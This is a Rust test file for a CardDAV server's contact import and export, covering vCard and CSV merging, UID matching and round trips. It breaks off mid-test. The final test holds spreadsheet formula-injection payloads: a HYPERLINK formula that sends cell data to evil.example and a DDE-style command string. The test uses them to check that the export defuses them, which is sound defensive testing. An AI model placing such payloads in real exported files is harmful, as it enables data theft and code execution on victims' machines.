//! Import fidelity (`POST /api/v1/books/{book}/import`): what an import stores is what the file holds, and
//! what a book already holds survives a merge. The inputs come from a review that reproduced each defect.

use crate::support::*;
use serde_json::Value;

async fn import(dav: &Dav, format: &str, body: &str, extra: &str) -> (u16, Value) {
    let r =
        dav.send("POST", &format!("/api/v1/books/contacts/import?format={format}{extra}"), &[], body.to_string()).await;
    (r.status.as_u16(), serde_json::from_slice(&r.body).unwrap_or(Value::Null))
}

async fn stored(dav: &Dav, name: &str) -> String {
    let r = dav.get(&format!("{}{name}", dav.book())).await;
    assert_eq!(r.status.as_u16(), 200, "GET {name}: {}", r.text());
    r.text()
}

async fn count(dav: &Dav) -> usize {
    let r = dav.get("/api/v1/contacts?limit=500").await;
    let v: Value = serde_json::from_slice(&r.body).expect("json");
    v["items"].as_array().expect("items").len()
}

fn rows(summary: &Value) -> &Vec<Value> {
    summary["rows"].as_array().expect("rows")
}

/// A 4.0 card with a group, an escaped note and a date; a 3.0 card with a date without a year.
const IMP_BDAY: &str = "BEGIN:VCARD\r\nVERSION:4.0\r\nUID:imp-bday\r\nFN:Imp Bday\r\nBDAY:1983-02-03\r\n\
item1.EMAIL;TYPE=work:a@b.c\r\nitem1.X-ABLabel:Work\r\nNOTE:Zeile1\\nZeile2 äöü\r\nEND:VCARD\r\n";
const IMP_BDAY3: &str = "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:imp-bday3\r\nFN:Imp Bday3\r\nBDAY:--04-16\r\nEND:VCARD\r\n";
/// Thunderbird writes dates with VALUE=DATE.
const TB1: &str = "BEGIN:VCARD\r\nVERSION:4.0\r\nUID:tb-1\r\nFN:Thunder Bird\r\nN:Bird;Thunder;;;\r\n\
BDAY;VALUE=DATE:1983-02-03\r\nANNIVERSARY;VALUE=DATE:2009-08-08\r\nEMAIL;PREF=1:tb@example.org\r\nEND:VCARD\r\n";

#[tokio::test]
async fn vcard_import_stores_3_0_and_4_0_cards_as_uploaded() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    // An Apple export has no UID, and uses bare LF here: it gets one UID line, nothing else changes.
    let apple = "BEGIN:VCARD\nVERSION:3.0\nFN:Ohne UID\nBDAY;VALUE=date:1990-07-15\nEND:VCARD\n";
    let file = format!("{IMP_BDAY}{IMP_BDAY3}{TB1}{apple}");
    let (status, r) = import(&alice, "vcf", &file, "").await;
    assert_eq!(status, 200, "{r}");
    assert_eq!(r["created"], 4, "{r}");
    assert_eq!(stored(&alice, "imp-bday.vcf").await, IMP_BDAY);
    assert_eq!(stored(&alice, "imp-bday3.vcf").await, IMP_BDAY3);
    assert_eq!(stored(&alice, "tb-1.vcf").await, TB1);
    let uid = rows(&r)[3]["uid"].as_str().expect("uid").to_string();
    let card = stored(&alice, &format!("{uid}.vcf")).await;
    assert_eq!(card, apple.replace("END:VCARD", &format!("UID:{uid}\nEND:VCARD")));
    s.stop().await;
}

#[tokio::test]
async fn a_card_without_uid_is_reported_and_audited_with_the_uid_it_was_stored_with() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    let file = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Nobody Uid\r\nEMAIL:nobody@uid.example\r\nEND:VCARD\r\n\
BEGIN:VCARD\r\nVERSION:2.1\r\nN:Alt;Otto\r\nEND:VCARD\r\n";
    let (status, r) = import(&alice, "vcf", file, "").await;
    assert_eq!(status, 200, "{r}");
    let reported: Vec<String> = rows(&r).iter().map(|row| row["uid"].as_str().expect("uid").to_string()).collect();
    let found = alice.get("/api/v1/contacts?columns=fn").await;
    let found: Value = serde_json::from_slice(&found.body).expect("json");
    let mut stored_uids: Vec<String> =
        found["items"].as_array().expect("items").iter().map(|i| i["uid"].as_str().expect("uid").to_string()).collect();
    stored_uids.sort();
    let mut sorted = reported.clone();
    sorted.sort();
    assert_eq!(sorted, stored_uids, "the report names the stored UIDs: {r}");
    for uid in &reported {
        assert!(stored(&alice, &format!("{uid}.vcf")).await.contains(&format!("UID:{uid}\r\n")));
    }
    let audit = s.audit().await;
    let record =
        audit["records"].as_array().expect("records").iter().find(|r| r["action"] == "import").expect("import");
    let detail: Value = serde_json::from_str(record["detail"].as_str().expect("detail")).expect("json");
    let mut audited: Vec<String> =
        detail["uids"].as_array().expect("uids").iter().map(|u| u.as_str().expect("uid").to_string()).collect();
    audited.sort();
    assert_eq!(audited, stored_uids, "{detail}");
    s.stop().await;
}

/// The card a book holds, and an e-mail signature saved as a vCard for the same person.
const RICH: &str = "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:rich-1\r\nFN:Rita Reich\r\nN:Reich;Rita;;;\r\n\
EMAIL:rita@example.org\r\nTEL;TYPE=CELL:+49 170 999\r\nADR;TYPE=HOME:;;Lindenweg 3;Hamburg;;20095;DE\r\n\
NOTE:Allergie: Nüsse\r\nBDAY:1970-05-06\r\nEND:VCARD\r\n";
const SIGNATURE: &str =
    "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Rita Reich\r\nEMAIL:rita@example.org\r\nORG:Neue Firma GmbH\r\nEND:VCARD\r\n";

#[tokio::test]
async fn a_vcard_matched_by_email_is_merged_into_the_existing_card() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    assert!(alice.put(&format!("{}rich.vcf", alice.book()), RICH, &[]).await.status.is_success());
    let (status, r) = import(&alice, "vcf", SIGNATURE, "").await;
    assert_eq!(status, 200, "{r}");
    let card = stored(&alice, "rich.vcf").await;
    assert_eq!(card, RICH.replace("END:VCARD", "ORG:Neue Firma GmbH\r\nEND:VCARD"), "only the new ORG is added");
    assert_eq!((r["created"].as_u64(), r["updated"].as_u64()), (Some(0), Some(1)), "{r}");
    assert_eq!(rows(&r)[0]["match"], "email", "{r}");
    assert_eq!(rows(&r)[0]["uid"], "rich-1", "{r}");
    assert_eq!(count(&alice).await, 1);

    // What differs is kept as the book has it and named in the report; what is new is added.
    let other = "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:from-phone\r\nFN:Rita R.\r\nEMAIL:RITA@example.org \r\n\
TEL:0170/999\r\nTEL;TYPE=WORK:+49 40 5550\r\nNOTE:andere Notiz\r\nNICKNAME:Riri\r\nitem1.X-ABLabel:Büro\r\nEND:VCARD\r\n";
    let (status, r) = import(&alice, "vcf", other, "").await;
    assert_eq!(status, 200, "{r}");
    let row = &rows(&r)[0];
    assert_eq!((row["action"].as_str(), row["uid"].as_str()), (Some("update"), Some("rich-1")), "{r}");
    assert_eq!(row["kept"], serde_json::json!(["fn", "note"]), "{r}");
    assert_eq!(row["not_merged"], serde_json::json!(["X-ABLABEL"]), "{r}");
    let merged = stored(&alice, "rich.vcf").await;
    let expected =
        RICH.replace("END:VCARD", "ORG:Neue Firma GmbH\r\nTEL;TYPE=WORK:+49 40 5550\r\nNICKNAME:Riri\r\nEND:VCARD");
    assert_eq!(merged, expected);
    // A second run adds nothing and writes nothing.
    let (status, r) = import(&alice, "vcf", other, "").await;
    assert_eq!((status, r["unchanged"].as_u64()), (200, Some(1)), "{r}");
    s.stop().await;
}

/// A card with two typed addresses, a preferred phone with an Apple label, and a work phone.
const ADDR1B: &str = "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:addr-1\r\nFN:Anna Muster\r\nN:Muster;Anna;;;\r\n\
EMAIL;TYPE=INTERNET,WORK:Anna.Muster@Example.org\r\nitem1.TEL;TYPE=CELL,pref:+49 170 1234567\r\n\
item1.X-ABLabel:Privat-Handy\r\nTEL;TYPE=WORK:+49 30 1234\r\nADR;TYPE=WORK:;;Hauptstr. 1;Berlin;;10115;Germany\r\n\
ADR;TYPE=HOME:;;Gartenweg 5;Potsdam;;14467;Germany\r\nEND:VCARD\r\n";

#[tokio::test]
async fn a_csv_merge_keeps_addresses_phones_and_labels() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    assert!(alice.put(&format!("{}addr1.vcf", alice.book()), ADDR1B, &[]).await.status.is_success());
    // Outlook: a city the card has, the work phone written another way.
    let outlook = "First Name,Last Name,E-mail Address,Business Phone,Business City\r\n\
Anna,Muster,anna.muster@example.org,030 1234,Berlin\r\n";
    let (status, r) = import(&alice, "csv", outlook, "").await;
    assert_eq!(stored(&alice, "addr1.vcf").await, ADDR1B);
    assert_eq!((status, r["unchanged"].as_u64()), (200, Some(1)), "{r}");
    // kartei's own export from before this change (several values joined by "; ").
    let old_export = "\u{feff}fn,given,family,org,title,email,phone,street,city,postal_code,country\r\n\
Anna Muster,Anna,Muster,,,Anna.Muster@Example.org,+49 170 1234567; +49 30 1234,Hauptstr. 1; Gartenweg 5,Berlin; Potsdam,10115; 14467,Germany; Germany\r\n";
    let (status, r) = import(&alice, "csv", old_export, "").await;
    assert_eq!(stored(&alice, "addr1.vcf").await, ADDR1B);
    assert_eq!((status, r["unchanged"].as_u64()), (200, Some(1)), "{r}");
    // And today's export, read back in.
    let export = alice
        .get("/api/v1/contacts/export?format=csv&purpose=Backup&columns=fn,given,family,email,phone,street,city,postal_code,country")
        .await;
    assert_eq!(export.status.as_u16(), 200);
    let (status, r) = import(&alice, "csv", &export.text(), "").await;
    assert_eq!(stored(&alice, "addr1.vcf").await, ADDR1B, "{}", export.text());
    assert_eq!((status, r["unchanged"].as_u64()), (200, Some(1)), "{}: {r}", export.text());

    // What is really new is added; every line the card had stays as it was.
    let news = "fn,email,phone,street,city,postal_code\r\n\
Anna Muster,anna.muster@example.org,+49 40 555,Elbchaussee 9,Hamburg,22763\r\n";
    let (status, r) = import(&alice, "csv", news, "").await;
    assert_eq!((status, r["updated"].as_u64()), (200, Some(1)), "{r}");
    let card = stored(&alice, "addr1.vcf").await;
    assert_eq!(card, ADDR1B.replace("END:VCARD", "TEL:+49 40 555\r\nADR:;;Elbchaussee 9;Hamburg;;22763;\r\nEND:VCARD"),);
    // A partial address completes the one it belongs to, and never replaces a full one.
    let partial = "fn,email,city,country\r\nAnna Muster,anna.muster@example.org,Hamburg,Germany\r\n";
    let (status, r) = import(&alice, "csv", partial, "").await;
    assert_eq!((status, r["updated"].as_u64()), (200, Some(1)), "{r}");
    let after = stored(&alice, "addr1.vcf").await;
    assert_eq!(
        after,
        card.replace("ADR:;;Elbchaussee 9;Hamburg;;22763;\r\n", "ADR:;;Elbchaussee 9;Hamburg;;22763;Germany\r\n")
    );
    s.stop().await;
}

#[tokio::test]
async fn a_card_put_would_refuse_is_refused_by_import_with_its_reason() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    // A note broken by a raw newline: the second line has no name and no colon.
    let broken = "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:note-nl\r\nFN:Broken Note\r\nNOTE:Kunde seit 2019\r\n\
bitte nur vormittags anrufen\r\nEMAIL:bn@example.org\r\nEND:VCARD\r\n";
    let put = alice.put(&format!("{}note-nl.vcf", alice.book()), broken, &[]).await;
    assert_eq!(put.status.as_u16(), 400, "PUT refuses it");
    for extra in ["&dry_run=true", ""] {
        let (status, r) = import(&alice, "vcf", broken, extra).await;
        assert_eq!(status, if extra.is_empty() { 422 } else { 200 }, "{r}");
        assert_eq!(r["rejected"], 1, "{r}");
        let reason = rows(&r)[0]["reason"].as_str().expect("reason");
        assert!(reason.contains("bitte nur vormittags"), "{reason}");
    }
    assert_eq!(count(&alice).await, 0);
    s.stop().await;
}

#[tokio::test]
async fn email_matching_trims_and_folds_the_stored_address() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    let card = ADDR1B.replace("WORK:Anna.Muster@Example.org", "WORK: Anna.Muster@Example.org ");
    assert!(alice.put(&format!("{}addr1.vcf", alice.book()), &card, &[]).await.status.is_success());
    let (status, r) = import(&alice, "csv", "fn,email,title\r\nAnna Muster,anna.muster@example.org,Dr.\r\n", "").await;
    assert_eq!((status, r["created"].as_u64(), r["updated"].as_u64()), (200, Some(0), Some(1)), "{r}");
    assert_eq!(rows(&r)[0]["match"], "email", "{r}");
    assert_eq!(count(&alice).await, 1);
    s.stop().await;
}

#[tokio::test]
async fn a_new_card_whose_uid_names_another_resource_gets_a_free_name() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    let existing = "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:other-uid\r\nFN:Existing\r\nEND:VCARD\r\n";
    assert!(alice.put(&format!("{}dup.vcf", alice.book()), existing, &[]).await.status.is_success());
    let file = "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:fresh-1\r\nFN:Fresh One\r\nEND:VCARD\r\n\
BEGIN:VCARD\r\nVERSION:3.0\r\nUID:dup\r\nFN:New Card\r\nEND:VCARD\r\n";
    let (status, dry) = import(&alice, "vcf", file, "&dry_run=true").await;
    assert_eq!((status, dry["created"].as_u64()), (200, Some(2)), "{dry}");
    let (status, r) = import(&alice, "vcf", file, "").await;
    assert_eq!((status, r["created"].as_u64()), (200, Some(2)), "{r}");
    assert_eq!(stored(&alice, "dup.vcf").await, existing);
    assert!(stored(&alice, "dup-2.vcf").await.contains("UID:dup\r\n"));
    // The same UID twice in one file is one contact: the second row is refused, not a 409.
    let twice = "BEGIN:VCARD\r\nVERSION:4.0\r\nUID:twin\r\nFN:Twin\r\nEND:VCARD\r\n\
BEGIN:VCARD\r\nVERSION:4.0\r\nUID:twin\r\nFN:Twin again\r\nEND:VCARD\r\n";
    let (status, r) = import(&alice, "vcf", twice, "").await;
    assert_eq!(status, 422, "{r}");
    assert_eq!(rows(&r)[1]["reason"], "the same contact as row 1", "{r}");
    s.stop().await;
}

#[tokio::test]
async fn csv_export_keeps_line_breaks_and_reads_back_the_same() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    let card = "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:notes-1\r\nFN:Nora Notiz\r\nEMAIL:nora@example.org\r\n\
NOTE:Zeile 1\\nZeile 2\\, mit Komma\r\nCATEGORIES:Kunde,VIP\r\nEND:VCARD\r\n";
    assert!(alice.put(&format!("{}notes-1.vcf", alice.book()), card, &[]).await.status.is_success());
    let export =
        alice.get("/api/v1/contacts/export?format=csv&purpose=Backup&bom=false&columns=fn,email,note,categories").await;
    assert_eq!(export.status.as_u16(), 200);
    assert_eq!(
        export.text(),
        "fn,email,note,categories\r\nNora Notiz,nora@example.org,\"Zeile 1\nZeile 2, mit Komma\",\"Kunde\nVIP\"\r\n"
    );
    let (status, r) = import(&alice, "csv", &export.text(), "").await;
    assert_eq!(stored(&alice, "notes-1.vcf").await, card);
    assert_eq!((status, r["unchanged"].as_u64()), (200, Some(1)), "{r}");
    s.stop().await;
}

/// Found by a second review of the merge code: an edit of one grouped line dropped every line of its group;
/// completing an address lost its PO box and extended address; a CSV row without a name cell renamed the
/// card after its e-mail; a 4.0 `tel:` URI was not recognised as the same number.
#[tokio::test]
async fn a_csv_merge_edits_only_its_own_lines() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    let put = |name: &'static str, card: &'static str| {
        let alice = &alice;
        async move {
            assert!(alice.put(&format!("{}{name}", alice.book()), card, &[]).await.status.is_success(), "{name}");
        }
    };
    let grouped = "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:grp\r\nFN:Gina Group\r\nhome.EMAIL:gina@x.org\r\n\
home.TEL:+49 30 5555\r\nhome.ADR:;;Ringstr. 7;Berlin;;;DE\r\nwork.EMAIL:gina@firma.example\r\nEND:VCARD\r\n";
    let po_box = "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:c\r\nFN:Carl Adr\r\nEMAIL:carl@x.org\r\n\
item1.ADR;TYPE=WORK,pref:PF 12;Apt 5;Hauptstr. 1;Berlin;;;Germany\r\nitem1.X-ABADR:de\r\nEND:VCARD\r\n";
    let named = "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:anna\r\nFN:Dr. Anna Muster\r\nEMAIL:anna@x.org\r\nEND:VCARD\r\n";
    let uri_phone = "BEGIN:VCARD\r\nVERSION:4.0\r\nUID:b\r\nFN:Bob Tel\r\nEMAIL:bob@x.org\r\n\
TEL;VALUE=uri;TYPE=work:tel:+49-30-1234\r\nEND:VCARD\r\n";
    put("grp.vcf", grouped).await;
    put("c.vcf", po_box).await;
    put("anna.vcf", named).await;
    put("b.vcf", uri_phone).await;

    let csv = "email,phone,city,postal_code\r\ngina@x.org,,Berlin,10115\r\ncarl@x.org,,Berlin,10115\r\n\
anna@x.org,+49 30 1234,,\r\nbob@x.org,030 1234,,\r\n";
    let (status, r) = import(&alice, "csv", csv, "").await;
    assert_eq!(status, 200, "{r}");
    assert_eq!(
        stored(&alice, "grp.vcf").await,
        grouped.replace("home.ADR:;;Ringstr. 7;Berlin;;;DE", "home.ADR:;;Ringstr. 7;Berlin;;10115;DE")
    );
    let carl = stored(&alice, "c.vcf").await;
    assert!(
        carl.contains("item1.ADR;") && carl.contains(":PF 12;Apt 5;Hauptstr. 1;Berlin;;10115;Germany\r\n"),
        "{carl}"
    );
    assert!(carl.contains("item1.X-ABADR:de\r\n"), "{carl}");
    let anna = stored(&alice, "anna.vcf").await;
    assert!(anna.contains("FN:Dr. Anna Muster\r\n") && anna.contains("TEL:+49 30 1234"), "{anna}");
    assert_eq!(stored(&alice, "b.vcf").await, uri_phone, "the same number as a tel: URI is not added again");
    // And the same file again changes nothing.
    let (status, again) = import(&alice, "csv", csv, "").await;
    assert_eq!((status, again["unchanged"].as_u64()), (200, Some(4)), "{again}");
    s.stop().await;
}

/// Spreadsheet birthdays are read as the dates they are (`06.05.1970` became `0605-19-70`), and an
/// imported card obeys the size limit a PUT obeys (it was stored at any size). Both from the second review.
#[tokio::test]
async fn csv_birthdays_are_read_and_imported_cards_obey_the_size_limit() {
    let s = TestServer::start_with(|c| c.limits.max_resource_size = 2000).await;
    let alice = s.user("alice").await;
    let card = "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:bday\r\nFN:Berta Day\r\nEMAIL:berta@x.org\r\nBDAY:1970-05-06\r\nEND:VCARD\r\n";
    assert!(alice.put(&format!("{}bday.vcf", alice.book()), card, &[]).await.status.is_success());
    let csv = "fn,email,birthday\r\nBerta Day,berta@x.org,06.05.1970\r\nUlla US,ulla@x.org,5/6/1970\r\n";
    let (status, r) = import(&alice, "csv", csv, "").await;
    assert_eq!((status, r["unchanged"].as_u64(), r["created"].as_u64()), (200, Some(1), Some(1)), "{r}");
    assert_eq!(stored(&alice, "bday.vcf").await, card);
    let ulla = rows(&r)[1]["uid"].as_str().expect("uid").to_string();
    let created = stored(&alice, &format!("{ulla}.vcf")).await;
    assert!(created.contains("BDAY:1970-05-06") || created.contains("BDAY:19700506"), "{created}");

    let big = format!(
        "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:big\r\nFN:Big\r\n{}END:VCARD\r\n",
        "NOTE:a long note that makes the card larger than the limit\r\n".repeat(50)
    );
    let (status, r) = import(&alice, "vcf", &big, "").await;
    assert_eq!(status, 422, "{r}");
    let reason = rows(&r)[0]["reason"].as_str().unwrap_or_default().to_string();
    assert!(reason.contains("maximum resource size"), "{r}");
    assert_eq!(alice.get(&format!("{}big.vcf", alice.book())).await.status.as_u16(), 404);
    s.stop().await;
}

/// A card stored without a final line break comes back from a vCard export with one; importing that export
/// leaves the card (and its ETag) as it was (second review: it was rewritten).
#[tokio::test]
async fn a_vcard_export_imported_again_changes_nothing() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    let card = "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:nobreak\r\nFN:No Break\r\nEMAIL:nb@x.org\r\nEND:VCARD";
    let put = alice.put(&format!("{}nobreak.vcf", alice.book()), card, &[]).await;
    assert!(put.status.is_success(), "{}", put.text());
    let export = alice.get("/api/v1/contacts/export?format=vcf&purpose=Backup").await;
    assert_eq!(export.status.as_u16(), 200, "{}", export.text());
    let (status, r) = import(&alice, "vcf", &export.text(), "").await;
    assert_eq!((status, r["unchanged"].as_u64()), (200, Some(1)), "{r}");
    assert_eq!(stored(&alice, "nobreak.vcf").await, card);
    s.stop().await;
}

/// Two people sharing an e-mail address (a couple, a family) are two rows and two cards; importing the same
/// file again finds each its own card (second review: the second import was refused with 422).
#[tokio::test]
async fn rows_sharing_an_email_import_again_unchanged() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    let csv = "fn,email,phone\r\nDora One,dora@x.org,+49 30 1\r\nDora Two,dora@x.org,+49 30 2\r\n";
    let (status, first) = import(&alice, "csv", csv, "").await;
    assert_eq!((status, first["created"].as_u64()), (200, Some(2)), "{first}");
    let (status, again) = import(&alice, "csv", csv, "").await;
    assert_eq!((status, again["unchanged"].as_u64()), (200, Some(2)), "{again}");
    assert_eq!(count(&alice).await, 2);
    s.stop().await;
}

/// A category with an escaped comma stays one category when the line is rewritten (second review:
/// `Berlin\, Mitte` became two).
#[tokio::test]
async fn a_category_with_a_comma_stays_one() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    let card = "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:cat\r\nFN:Cat\r\nEMAIL:cat@x.org\r\nCATEGORIES:Berlin\\, Mitte,VIP\r\nEND:VCARD\r\n";
    assert!(alice.put(&format!("{}cat.vcf", alice.book()), card, &[]).await.status.is_success());
    let (status, r) = import(&alice, "csv", "email,categories\r\ncat@x.org,Neu\r\n", "").await;
    assert_eq!(status, 200, "{r}");
    let after = stored(&alice, "cat.vcf").await;
    assert!(after.contains("CATEGORIES:Berlin\\, Mitte,VIP,Neu\r\n"), "{after}");
    s.stop().await;
}

/// Files joined with `cat` keep each one's byte order mark: every card is imported, without the marks.
#[tokio::test]
async fn concatenated_files_with_byte_order_marks_import_whole() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    let file = format!("\u{feff}{IMP_BDAY}\u{feff}{IMP_BDAY3}\r\n\u{feff}{TB1}");
    let (status, r) = import(&alice, "vcf", &file, "").await;
    assert_eq!(status, 200, "{r}");
    assert_eq!(r["created"], 3, "{r}");
    assert_eq!(stored(&alice, "imp-bday3.vcf").await, IMP_BDAY3, "stored without the mark");
    assert_eq!(stored(&alice, "tb-1.vcf").await, TB1);
    s.stop().await;
}

/// Contacts without UID (an Apple or Outlook export, a CSV without a UID column) and without e-mail have
/// nothing to be matched by but their text: importing the same file again changes nothing, and a contact the
/// file holds twice is stored once.
#[tokio::test]
async fn importing_the_same_uidless_export_again_adds_nothing() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    let card =
        |name: &str| format!("BEGIN:VCARD\nVERSION:3.0\nFN:{name}\nTEL;TYPE=CELL:+49 170 {}\nEND:VCARD\n", name.len());
    let vcf = format!("{}{}{}", card("Hans Handwerker"), card("Petra Putz"), card("Hans Handwerker"));
    let (status, first) = import(&alice, "vcf", &vcf, "").await;
    assert_eq!(status, 200, "{first}");
    assert_eq!((&first["created"], &first["unchanged"]), (&2.into(), &1.into()), "{first}");
    assert_eq!(rows(&first)[2]["same_as_row"], 1, "{first}");
    let csv = "Name,Mobile Phone\nMaler Klecks,0171 555\nFliesen Fuchs,0172 666\n";
    let (status, r) = import(&alice, "csv", csv, "").await;
    assert_eq!((status, &r["created"]), (200, &2.into()), "{r}");
    assert_eq!(count(&alice).await, 4);

    let (status, again) = import(&alice, "vcf", &vcf, "").await;
    assert_eq!((status, &again["created"], &again["unchanged"]), (200, &0.into(), &3.into()), "{again}");
    assert_eq!(rows(&again)[0]["uid"], rows(&first)[0]["uid"], "the same UID, made from the same text");
    let (status, r) = import(&alice, "csv", csv, "").await;
    assert_eq!((status, &r["created"], &r["unchanged"]), (200, &0.into(), &2.into()), "{r}");
    // Saved again by another tool (CRLF instead of LF) it is still the same export.
    let (status, r) = import(&alice, "vcf", &vcf.replace('\n', "\r\n"), "").await;
    assert_eq!((status, &r["created"]), (200, &0.into()), "{r}");
    assert_eq!(count(&alice).await, 4);
    s.stop().await;
}

/// E-mails and phones merged in from a vCard matched by e-mail keep their lines as the file has them: PREF,
/// TYPE and an Apple label in their group (under a group name the stored card does not use).
#[tokio::test]
async fn merged_emails_and_phones_keep_the_files_parameters_and_labels() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    let stored_card = "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:kim-1\r\nFN:Kim Kunde\r\nitem1.EMAIL;TYPE=INTERNET:kim@firma.de\r\n\
item1.X-ABLabel:Büro\r\nitem2.URL:https://kim.example\r\nitem2.X-ABLabel:Blog\r\nEND:VCARD\r\n";
    assert!(alice.put(&format!("{}kim.vcf", alice.book()), stored_card, &[]).await.status.is_success());
    let file = "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:from-iphone\r\nFN:Kim Kunde\r\nEMAIL;TYPE=INTERNET:kim@firma.de\r\n\
item2.EMAIL;TYPE=INTERNET;TYPE=pref:kim.privat@example.org\r\nitem2.X-ABLabel:Privat\r\n\
TEL;TYPE=CELL;TYPE=pref:+49 170 1\r\nEND:VCARD\r\n";
    let (status, r) = import(&alice, "vcf", file, "").await;
    assert_eq!(status, 200, "{r}");
    assert_eq!(rows(&r)[0]["match"], "email", "{r}");
    assert!(rows(&r)[0].get("not_merged").is_none(), "the label came with its e-mail: {r}");
    let merged = stored(&alice, "kim.vcf").await;
    let expected = stored_card.replace(
        "END:VCARD",
        "item3.EMAIL;TYPE=INTERNET;TYPE=pref:kim.privat@example.org\r\nitem3.X-ABLabel:Privat\r\n\
TEL;TYPE=CELL;TYPE=pref:+49 170 1\r\nEND:VCARD",
    );
    assert_eq!(merged, expected);
    let (status, r) = import(&alice, "vcf", file, "").await;
    assert_eq!((status, r["unchanged"].as_u64()), (200, Some(1)), "a second run changes nothing: {r}");
    s.stop().await;
}

/// A contact without UID that an import made, then edited on a phone, keeps its edits when the same export is
/// imported again: the UID made from the text finds it, and it is merged into like an e-mail match, not
/// replaced. The same cells under other column headers are another contact. (Found by a review.)
#[tokio::test]
async fn reimporting_a_uidless_export_keeps_edits_made_since() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    let vcf =
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Hans Handwerker\r\nEMAIL:hans@handwerk.de\r\nTEL:0171 1\r\nEND:VCARD\r\n";
    let (status, r) = import(&alice, "vcf", vcf, "").await;
    assert_eq!(status, 200, "{r}");
    let uid = rows(&r)[0]["uid"].as_str().expect("uid").to_string();
    let path = format!("{}{uid}.vcf", alice.book());
    let edited = alice.get(&path).await.text().replace("TEL:0171 1", "TEL:0171 2\r\nNOTE:neue Nummer");
    assert!(alice.put(&path, &edited, &[]).await.status.is_success());
    let (status, r) = import(&alice, "vcf", vcf, "").await;
    assert_eq!(status, 200, "{r}");
    let now = alice.get(&path).await.text();
    assert!(now.contains("TEL:0171 2") && now.contains("NOTE:neue Nummer"), "edits kept: {now}");

    let (status, r) = import(&alice, "csv", "Given Name,Family Name\nAnna,Berg\n", "").await;
    assert_eq!((status, &r["created"]), (200, &1.into()), "{r}");
    let (status, r) = import(&alice, "csv", "Family Name,Given Name\nAnna,Berg\n", "").await;
    assert_eq!((status, &r["created"]), (200, &1.into()), "swapped columns are another person: {r}");
    s.stop().await;
}

/// Cards that an older kartei stored and that today's PUT checks would refuse (a control character, from
/// before that check) get their search columns made again too. (Found by a review.)
#[tokio::test]
async fn the_column_refresh_reaches_cards_stored_before_todays_checks() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    alice.put_card("j.vcf", "j", "José Łukasz", "").await;
    {
        let db = rusqlite::Connection::open(s.config.database_path()).expect("open the database");
        db.execute_batch(
            "UPDATE cards SET vcard = CAST(replace(CAST(vcard AS TEXT), 'END:VCARD', 'NOTE:a' || char(7) || 'b' || char(13) || char(10) || 'END:VCARD') AS BLOB),
                    fn = 'josé łukasz', search = 'josé łukasz';
             UPDATE settings SET value = '2' WHERE key = 'search_fold_version';",
        )
        .expect("as an older kartei left it");
    }
    kartei::open_store(&s.config).expect("opening makes the columns again");
    let found = alice.get("/api/v1/contacts?q=lukasz").await.text();
    assert!(found.contains("José"), "quick search: {found}");
    let query = r#"<c:addressbook-query xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:carddav"><d:prop><d:getetag/></d:prop><c:filter><c:prop-filter name="FN"><c:text-match>josé</c:text-match></c:prop-filter></c:filter></c:addressbook-query>"#;
    assert_eq!(alice.report(&alice.book(), "1", query).await.multistatus().hrefs().len(), 1, "CardDAV query");
    s.stop().await;
}

/// kartei's own CSV export carries the UID, so an edited export imported again updates the same contacts,
/// also those without an e-mail to match by; cells a spreadsheet would run as formulas are written as text and
/// read back as they were, while phone numbers stay numbers.
#[tokio::test]
async fn csv_export_round_trips_by_uid_and_defuses_formulas() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let card = format!(
        "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:paul\r\nFN:Paul Phoneonly\r\nORG:+cmd|' /C calc'!A0\r\n\
         TITLE:{}\r\nTEL:+49 89 5555\r\nTEL:-5\r\nEND:VCARD\r\n",
        formula.replace(',', "\\,")
    );
    assert!(alice.put(&format!("{}paul.vcf", alice.book()), &card, &[]).await.status.is_success());
    let r = alice.get("/api/v1/contacts/export?format=csv&purpose=Backup&bom=false").await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    let exported = r.text();
    let mut reader = csv::Reader::from_reader(exported.as_bytes());
    let headers = reader.headers().expect("headers").clone();
    assert_eq!(headers.iter().next_back(), Some("uid"), "{exported}");
    let row = reader.records().next().expect("a row").expect("csv");
    let cell = |name: &str| row.get(headers.iter().position(|h| h == name).expect(name)).unwrap_or("").to_string();
    assert_eq!(cell("uid"), "paul");
    assert_eq!(cell("title"), format!("'{formula}"), "a formula is written as text");
    assert_eq!(cell("org"), "'+cmd|' /C calc'!A0");
